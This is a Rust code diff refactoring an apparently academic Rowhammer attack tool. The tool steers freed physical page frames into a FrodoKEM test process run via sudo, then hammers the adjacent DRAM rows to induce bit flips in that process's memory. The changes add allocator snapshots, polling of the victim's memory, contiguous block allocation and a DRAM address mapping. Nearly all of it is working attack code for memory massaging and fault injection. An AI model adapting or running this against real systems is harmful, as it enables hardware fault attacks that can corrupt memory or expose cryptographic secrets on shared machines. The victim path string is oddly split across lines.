@@ -4,9 +4,9 @@ use std::{
     fs::File,
     io::{self, BufRead, BufReader, Write},
     path::Path,
-    process::{self, Command},
+    process::{self, Child, Command},
     thread,
-    time::{Duration, Instant},
+    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
 };
 
 use nix::{
@@ -14,18 +14,31 @@ use nix::{
     sys::mman::munmap,
     unistd::{fork, ForkResult, Pid},
 };
-use procfs::process::Process;
+use procfs::process::all_processes;
 
+use crate::attack::snapshot::SnapshotLog;
 use crate::profiler::{
+    allocator::acquire_contiguous_blocks,
+    kpageflags::{check_released, print_page_states},
+    mapping::DramMapping,
     pagefinder::{get_candidate_pages, PageCandidate},
-    utils::{
-        self, collect_pages_by_row, count_flips_by_bit, fill_memory, get_block_by_order,
-        get_page_frame_number, rowhammer, setup_mapping, NO_OF_READS,
-    },
+    pattern::HammerPattern,
+    utils::{self, collect_pages_by_row, count_flips_by_bit, setup_mapping, NO_OF_READS},
 };
+use crate::Backing;
 
 //const TEST_ITERATIONS: u32 = 10;
 const INIT_PATTERN: u16 = 0x0;
+/// Order of the physically contiguous blocks the dummy pages are taken from
+const DUMMY_BLOCK_ORDER: u32 = 4;
+/// Zone the dummy pages have to be in, which is the one the victim's pages come from
+const DUMMY_PAGE_ZONE: &str = "DMA32";
+/// How often the victim's resident memory is sampled while waiting for it to start
+const VICTIM_POLL_INTERVAL: Duration = Duration::from_millis(10);
+/// How long the victim's resident memory has to stay the same to count as mapped
+const VICTIM_SETTLE_TIME: Duration = Duration::from_millis(100);
+/// How long to wait at most for the victim to map its memory
+const VICTIM_START_TIMEOUT: Duration = Duration::from_secs(5);
 
 fn get_page_pfns(input_path: impl AsRef<Path>) -> Result<(u64, (u64, u64), (u64, u64)), String> {
     let file = File::open(input_path).expect("Failed to open file.");
@@ -58,33 +71,73 @@ fn get_page_pfns(input_path: impl AsRef<Path>) -> Result<(u64, (u64, u64), (u64,
     Err(String::from("Couldnt parse pfns from file"))
 }
 
+/// Sums the resident pages of the processes started by `pid`, which is `sudo` running the victim.
+///
+/// # Returns
+/// `None` while `pid` hasn't started any process yet
+fn victim_resident_pages(pid: i32) -> Option<u64> {
+    let processes = all_processes()
+        .ok()?
+        .filter_map(|process| process.ok()?.stat().ok())
+        .collect::<Vec<_>>();
+    let mut tree = vec![pid];
+    let mut resident_pages = 0;
+    let mut i = 0;
+    while i < tree.len() {
+        let parent = tree[i];
+        for stat in processes.iter().filter(|stat| stat.ppid == parent) {
+            tree.push(stat.pid);
+            resident_pages += stat.rss;
+        }
+        i += 1;
+    }
+    (tree.len() > 1).then_some(resident_pages)
+}
+
+/// Waits until the victim has mapped its memory, i.e. its resident memory stopped growing, so the
+/// allocator snapshot taken afterwards shows where its pages came from. Gives up with a warning
+/// after `VICTIM_START_TIMEOUT`.
+fn wait_until_victim_mapped(victim: &mut Child) {
+    let start = Instant::now();
+    let mut last = None;
+    let mut unchanged_since = start;
+    while start.elapsed() < VICTIM_START_TIMEOUT {
+        if let Ok(Some(status)) = victim.try_wait() {
+            eprintln!(
+                "[!] The victim exited before mapping its memory: {}",
+                status
+            );
+            return;
+        }
+        let resident_pages = victim_resident_pages(victim.id() as i32);
+        if resident_pages != last {
+            last = resident_pages;
+            unchanged_since = Instant::now();
+        } else if resident_pages.is_some_and(|pages| pages > 0)
+            && unchanged_since.elapsed() >= VICTIM_SETTLE_TIME
+        {
+            return;
+        }
+        thread::sleep(VICTIM_POLL_INTERVAL);
+    }
+    eprintln!(
+        "[!] The victim's memory didn't settle within {:?}",
+        VICTIM_START_TIMEOUT
+    );
+}
+
 fn sanity_check_attack(pages: &[PageCandidate]) {
     println!("Initializing pages for sanity check.");
 
     for page in pages {
-        unsafe {
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.0.virt_addr,
-                page.below_pages.0.virt_addr,
-            );
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.1.virt_addr,
-                page.below_pages.1.virt_addr,
-            );
-        }
+        page.fill();
     }
 
     let start = Instant::now();
 
     loop {
         for page in pages {
-            rowhammer(
-                page.above_pages.0.virt_addr,
-                page.below_pages.0.virt_addr,
-                NO_OF_READS,
-            );
+            page.hammer(NO_OF_READS);
         }
 
         // Check if we've been running for set amount of time
@@ -111,28 +164,13 @@ fn sanity_check_attack(pages: &[PageCandidate]) {
 
 fn check_attack(pages: &[PageCandidate], iterations: usize) -> (Duration, u64) {
     for page in pages {
-        unsafe {
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.0.virt_addr,
-                page.below_pages.0.virt_addr,
-            );
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.1.virt_addr,
-                page.below_pages.1.virt_addr,
-            );
-        }
+        page.fill();
     }
 
     let start = Instant::now();
 
     for page in pages {
-        rowhammer(
-            page.above_pages.0.virt_addr,
-            page.below_pages.0.virt_addr,
-            iterations,
-        );
+        page.hammer(iterations);
     }
 
     let elapsed = start.elapsed();
@@ -195,50 +233,45 @@ pub(crate) fn check_attack_time_needed(pages: &[PageCandidate]) {
     );
 }
 
-fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
+fn rowhammer_attack(
+    pages: &[PageCandidate],
+    number_of_dummy_pages: usize,
+    hammer_iterations: usize,
+) {
     println!("Initializing pages for attack.");
 
     for page in pages {
-        unsafe {
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.0.virt_addr,
-                page.below_pages.0.virt_addr,
-            );
-            fill_memory(
-                page.target_page.virt_addr,
-                page.above_pages.1.virt_addr,
-                page.below_pages.1.virt_addr,
-            );
-        }
+        page.fill();
     }
 
-    let pagemap = &mut Process::myself()
-        .expect("Couldn't get process info")
-        .pagemap()
-        .expect("Couldn't get pagemap of process");
-    let mut block_mapping = get_block_by_order(12);
-
     println!("Preparing dummy pages...");
 
+    let block_pages = 1 << DUMMY_BLOCK_ORDER;
+    let dummy_blocks = acquire_contiguous_blocks(
+        DUMMY_BLOCK_ORDER,
+        (2 * number_of_dummy_pages).div_ceil(block_pages),
+        Some(DUMMY_PAGE_ZONE),
+    )
+    .unwrap_or_else(|e| {
+        eprintln!("[!] Couldn't allocate dummy pages: {}", e);
+        process::exit(1);
+    });
+    println!("Got {}", dummy_blocks);
+
     // A vec of tuples containing (virtual_address, page_frame_number)
-    let mut dummy_pages = Vec::with_capacity(2 * number_of_dummy_pages);
-    for i in 0.. {
-        let virtual_addr = unsafe { block_mapping.as_mut_ptr().add(i * utils::PAGE_SIZE) };
-
-        match get_page_frame_number(pagemap, virtual_addr) {
-            Ok(pfn) => {
-                if pfn <= 0x100000 {
-                    dummy_pages.push((virtual_addr, pfn));
-                }
-                if dummy_pages.len() >= 2 * number_of_dummy_pages {
-                    break;
-                }
-            }
-            Err(_) => {
-                continue;
-            }
-        }
+    let dummy_pages = dummy_blocks
+        .blocks
+        .iter()
+        .flat_map(|block| block.pages())
+        .take(2 * number_of_dummy_pages)
+        .collect::<Vec<_>>();
+    if dummy_pages.len() < 2 * number_of_dummy_pages {
+        eprintln!(
+            "[!] Only got {} of {} dummy pages",
+            dummy_pages.len(),
+            2 * number_of_dummy_pages
+        );
+        process::exit(1);
     }
 
     println!("Starting attack!");
@@ -259,6 +292,28 @@ fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
             cpu_set.set(1).unwrap();
             sched_setaffinity(Pid::from_raw(0), &cpu_set).unwrap();
 
+            let trial = SystemTime::now()
+                .duration_since(UNIX_EPOCH)
+                .map_or(0, |elapsed| elapsed.as_secs());
+            let mut snapshots =
+                SnapshotLog::new(format!("data/trial_{}", trial)).unwrap_or_else(|e| {
+                    eprintln!("[!] Couldn't create the trial directory: {}", e);
+                    process::exit(1);
+                });
+            let mut snapshot = |label: &str| {
+                if let Err(e) = snapshots.record(label) {
+                    eprintln!("[!] Couldn't save the allocator snapshot {}: {}", label, e);
+                }
+            };
+
+            let victim_pfns = pages
+                .iter()
+                .map(|page| page.target_page.pfn)
+                .collect::<Vec<_>>();
+            print_page_states("Victim page frames before releasing them:", &victim_pfns);
+
+            snapshot("before munmap");
+
             // Unmap all allocated pages to make room for the FrodoKEM process
             // Check if works with block_mapping len or if we need STACK_SIZE TODO!
             for (v_addr, _) in &dummy_pages[0..number_of_dummy_pages] {
@@ -281,6 +336,8 @@ fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
                 }
             }
 
+            print_page_states("Victim page frames after releasing them:", &victim_pfns);
+
             for (v_addr, _) in &dummy_pages[number_of_dummy_pages..] {
                 unsafe {
                     munmap(*v_addr as *mut c_void, utils::PAGE_SIZE).expect(&format!(
@@ -290,15 +347,29 @@ fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
                 }
             }
 
-            let ok = Command::new("sudo")
+            let released_pfns = dummy_pages
+                .iter()
+                .map(|(_, pfn)| *pfn)
+                .chain(victim_pfns.iter().copied())
+                .collect::<Vec<_>>();
+            if let Err(e) = check_released(&released_pfns) {
+                eprintln!("[!] Couldn't check the released page frames: {}", e);
+            }
+
+            snapshot("after munmap");
+
+            let mut victim = Command::new("sudo")
                 .arg("taskset")
                 .arg("0x2")
                 .arg(
                     "/home/development/Frodo/PQCrypto-LWElsls
                 sadKE/frodo640/test_KEM",
                 )
-                .status()
+                .spawn()
                 .expect("failed to execute command");
+            wait_until_victim_mapped(&mut victim);
+            snapshot("after victim start");
+            let ok = victim.wait().expect("failed to wait for the victim");
 
             println!("FrodoKEM process exited with: {}", ok);
             thread::sleep(Duration::from_secs(5));
@@ -363,11 +434,7 @@ fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
 
             loop {
                 for page in pages {
-                    rowhammer(
-                        page.above_pages.0.virt_addr,
-                        page.below_pages.0.virt_addr,
-                        NO_OF_READS,
-                    );
+                    page.hammer(hammer_iterations);
                 }
             }
         }
@@ -382,12 +449,18 @@ fn rowhammer_attack(pages: &[PageCandidate], number_of_dummy_pages: usize) {
 
 pub(crate) fn main(
     fraction_of_phys_memory: f64,
-    dimms: u8,
+    mapping: &dyn DramMapping,
     testing: bool,
     number_of_dummy_pages: usize,
+    backing: Backing,
+    pattern: &HammerPattern,
+    hammer_iterations: usize,
 ) {
-    let row_size = 128 * 1024 * dimms as usize;
-    let mut mmap = setup_mapping(0.0);
+    let row_size = mapping.row_size();
+    let mut mmap = setup_mapping(0.0, backing).unwrap_or_else(|e| {
+        eprintln!("[!] {}", e);
+        process::exit(1);
+    });
 
     let mut hammer = true;
 
@@ -407,19 +480,22 @@ pub(crate) fn main(
     println!("Setting up memory mapping...");
     let (mmap, pages_by_row, victims) = loop {
         std::mem::drop(mmap);
-        mmap = setup_mapping(fraction_of_phys_memory);
+        mmap = setup_mapping(fraction_of_phys_memory, backing).unwrap_or_else(|e| {
+            eprintln!("[!] {}", e);
+            process::exit(1);
+        });
 
         println!("Collecting all pages in all rows...");
-        let pages_by_row = collect_pages_by_row(&mut mmap, row_size).unwrap();
+        let pages_by_row = collect_pages_by_row(&mut mmap, mapping, backing).unwrap();
 
-        if pages_by_row.len() < 3 {
+        if pages_by_row.row_count() < 3 {
             eprintln!(
                 "[!] Can't hammer rows - only got {} rows total. Make sure you're running as sudo!",
-                pages_by_row.len()
+                pages_by_row.row_count()
             );
         }
 
-        let victims = get_candidate_pages(&pages_by_row, &victim_pages);
+        let victims = get_candidate_pages(&pages_by_row, mapping, pattern, &victim_pages);
 
         if victims.len() != victim_pfns.len() {
             let missed_pfns = victim_pfns
@@ -436,33 +512,36 @@ pub(crate) fn main(
         break (mmap, pages_by_row, victims);
     };
 
-    let indices = (0..pages_by_row.len() - 2).collect::<Vec<_>>();
-
-    'main: for above_row_index in indices {
-        let target_row_index = above_row_index + 1;
-        let below_row_index = above_row_index + 2;
+    let indices = pages_by_row.rows().map(|row| row.index).collect::<Vec<_>>();
 
-        let above_row = &pages_by_row[above_row_index];
-        let target_row = &pages_by_row[target_row_index];
-        let below_row = &pages_by_row[below_row_index];
-
-        // If any of the rows are not full we can't hammer them, so continue to the next iteration
-        for i in 0..3 {
-            if pages_by_row[above_row_index + i].len() != row_size as usize / utils::PAGE_SIZE {
+    'main: for target_row_index in indices {
+        for rank in 0..mapping.ranks() {
+            let Some((above_row, target_row, below_row)) =
+                pages_by_row.adjacent_rows(mapping, target_row_index, rank)
+            else {
                 continue 'main;
+            };
+
+            // If any of the rows are not full we can't hammer them, so continue to the next iteration
+            for row in [above_row, target_row, below_row] {
+                if row.len() != row_size / utils::PAGE_SIZE {
+                    continue 'main;
+                }
             }
         }
     }
 
     for page in &victims {
         println!(
-            "Page:{:#x?}, Address:{:?}\n",
-            page.target_page.pfn, page.target_page.virt_addr
+            "Page:{:#x?}, Address:{:?}, DRAM address: {}\n",
+            page.target_page.pfn,
+            page.target_page.virt_addr,
+            page.target_page.dram_address(mapping),
         )
     }
 
     if hammer {
-        rowhammer_attack(&victims, number_of_dummy_pages);
+        rowhammer_attack(&victims, number_of_dummy_pages, hammer_iterations);
     } else {
         check_attack_time_needed(&victims);
     }